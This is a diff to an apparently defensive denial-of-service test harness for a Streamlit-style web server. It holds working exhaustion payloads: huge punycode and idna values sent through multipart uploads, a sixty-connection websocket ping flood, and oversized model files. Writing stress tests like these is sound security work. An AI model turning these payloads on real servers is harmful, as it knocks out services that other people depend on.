@@ -74,11 +74,11 @@ def model(name: str, content: Callable[[], bytes], url: str, contents: Mapping[s
         assert visitor.arrived
 
 
-def typed(kind: str, disposition: str, url: str, contents: Mapping[str, bytes]) -> None:
-    """Upload a part with a long name, of another type of content."""
+def typed(kind: str, disposition: str, value: str, url: str, contents: Mapping[str, bytes]) -> None:
+    """Upload a part with a long value, of another type of content."""
     with WebsocketVisitor(url, address=ATTACKER.format(1)) as visitor:
         visitor.run("model_import")
-        body = f"--part\r\nContent-Disposition: form-data; {disposition}\r\n\r\nx\r\n--part--\r\n".encode()
+        body = f"--part\r\nContent-Disposition: form-data; {disposition}\r\n\r\n{value}\r\n--part--\r\n".encode()
         lines = [f"PUT /_stcore/upload_file/{visitor.session}/1 HTTP/1.1", "Host: 127.0.0.1", "Connection: close"]
         lines += [f"Cookie: {visitor.cookie}", f"X-Xsrftoken: {visitor.cookie.partition('=')[2]}"]
         lines += [f"Content-Type: multipart/form-data; boundary=part; charset={kind}", f"Content-Length: {len(body)}"]
@@ -100,6 +100,17 @@ def frames(first: bytes, again: bytes, url: str, contents: Mapping[str, bytes]) 
 
     with ThreadPoolExecutor(3) as threads:
         assert len([*threads.map(send, range(3))]) == 3
+
+
+def once(content: bytes, url: str, contents: Mapping[str, bytes]) -> None:
+    """Send as much as a socket takes over each of sixty connections, and no more."""
+    with ExitStack() as held:
+        for number in range(60):
+            visitor = held.enter_context(WebsocketVisitor(url, address=ATTACKER.format(number)))
+            visitor.connection.socket.setblocking(False)
+            with suppress(*GONE):
+                visitor.connection.socket.send(content)
+        time.sleep(SECONDS)
 
 
 def frame(opcode: Opcode, data: bytes = b"", fin: bool = True) -> bytes:
@@ -159,10 +170,11 @@ ATTACKS: dict[str, Attack] = {
     "snapshots, no columns": partial(model, SNAPSHOTS, lambda: npz(updates=empty((8 * 2**20 - 200, 0), "<i8"))),
     "snapshots, no characters": partial(model, SNAPSHOTS, lambda: npz(translations=empty((2**23, 0), "<U1"))),
     "a tokenizer of 600,000 names": partial(model, "tokenizer.json", f'{{"model": {{{MANY}}}}}'.encode),
-    "charset punycode": partial(typed, "punycode", f'name="{"é" * 300_000}"; filename="a"'),
-    "charset of a file's name": partial(typed, "idna", f'name="file"; filename="{"é" * 300_000}"'),
-    "charset undefined": partial(typed, "undefined", 'name="file"; filename="a"'),
+    "charset punycode": partial(typed, "punycode", 'name="a"', "b" * 300_000 + "-" + "b9" * 100_000),
+    "charset punycode, a short text": partial(typed, "punycode", 'name="a"', "b9" * 200_000),
+    "charset undefined": partial(typed, "undefined", 'name="a"', "x"),
     "pings": partial(frames, b"", PING),
+    "pings over sixty connections": partial(once, PING * 43_000),
     "empty continuations": partial(frames, *UNFINISHED),
     "texts": partial(frames, b"", TEXT),
     "ten networks": partial(crowd, 10, ""),
